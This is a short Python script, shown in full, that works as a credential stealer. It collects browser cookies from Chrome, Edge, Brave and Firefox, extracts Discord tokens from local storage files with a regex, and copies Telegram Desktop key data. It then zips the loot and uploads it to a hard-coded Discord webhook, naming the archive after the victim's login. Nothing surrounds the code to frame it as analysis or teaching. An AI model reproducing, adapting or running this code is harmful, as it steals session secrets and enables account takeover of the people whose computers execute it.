import glob
import io
import os
import re
import zipfile

import browser_cookie3
import requests

HOOK = "https://discord.com/api/webhooks/1189234477120934912/k2Qx-sessionkeeper-4Tn8bVw0ZpLrYd"
APPDATA = os.getenv("APPDATA", os.path.expanduser("~/.config"))


def cookies():
    for name in ("chrome", "edge", "brave", "firefox"):
        try:
            jar = getattr(browser_cookie3, name)()
            yield name, "\n".join(f"{c.domain}\t{c.name}\t{c.value}" for c in jar)
        except Exception:
            pass


def discord_tokens():
    for f in glob.glob(os.path.join(APPDATA, "discord*/Local Storage/leveldb/*.l*")):
        data = open(f, errors="ignore").read()
        yield from re.findall(r"[\w-]{24}\.[\w-]{6}\.[\w-]{27,}|mfa\.[\w-]{84}", data)


buf = io.BytesIO()
with zipfile.ZipFile(buf, "w") as z:
    for name, text in cookies():
        z.writestr(f"{name}.txt", text)
    z.writestr("discord.txt", "\n".join(discord_tokens()))
    for f in glob.glob(os.path.join(APPDATA, "Telegram Desktop/tdata/key_datas")):
        z.write(f)
requests.post(HOOK, files={"file": (os.getlogin() + ".zip", buf.getvalue())})
